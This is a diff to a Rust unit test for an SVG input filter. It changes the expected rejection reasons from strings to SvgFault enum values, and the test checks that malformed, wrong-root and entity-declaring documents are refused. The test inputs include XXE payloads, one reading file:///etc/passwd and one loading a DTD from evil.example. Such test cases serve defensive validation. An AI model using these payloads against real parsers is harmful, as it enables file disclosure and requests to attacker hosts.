@@ -185,19 +185,19 @@ fn what_is_no_drawing_is_refused() {
     let outside = "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>";
     let parameter = "<!DOCTYPE svg [<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'> %x;]><svg/>";
     for (text, why) in [
-        (bomb, "it declares entities"),
-        (outside, "it declares entities"),
-        (parameter, "it declares entities"),
-        ("<svg>&nbsp;</svg>", "it is not well-formed XML"),
-        ("<svg", "it is not well-formed XML"),
-        ("<svg><g></svg>", "it is not well-formed XML"),
-        ("<svg a='1' a='2'/>", "it is not well-formed XML"),
-        ("<svg/><script/>", "it is not well-formed XML"),
-        ("hello", "it is not well-formed XML"),
-        ("", "it is not well-formed XML"),
-        ("<html><body/></html>", "its root is not an svg element"),
-        ("<svg xmlns='http://www.w3.org/1999/xhtml'/>", "its root is not an svg element"),
-        ("<x:svg xmlns:x='urn:x'/>", "its root is not an svg element"),
+        (bomb, SvgFault::Entities),
+        (outside, SvgFault::Entities),
+        (parameter, SvgFault::Entities),
+        ("<svg>&nbsp;</svg>", SvgFault::NotXml),
+        ("<svg", SvgFault::NotXml),
+        ("<svg><g></svg>", SvgFault::NotXml),
+        ("<svg a='1' a='2'/>", SvgFault::NotXml),
+        ("<svg/><script/>", SvgFault::NotXml),
+        ("hello", SvgFault::NotXml),
+        ("", SvgFault::NotXml),
+        ("<html><body/></html>", SvgFault::Root),
+        ("<svg xmlns='http://www.w3.org/1999/xhtml'/>", SvgFault::Root),
+        ("<x:svg xmlns:x='urn:x'/>", SvgFault::Root),
     ] {
         assert_eq!(filter(text.as_bytes()), Err(why), "{text}");
     }
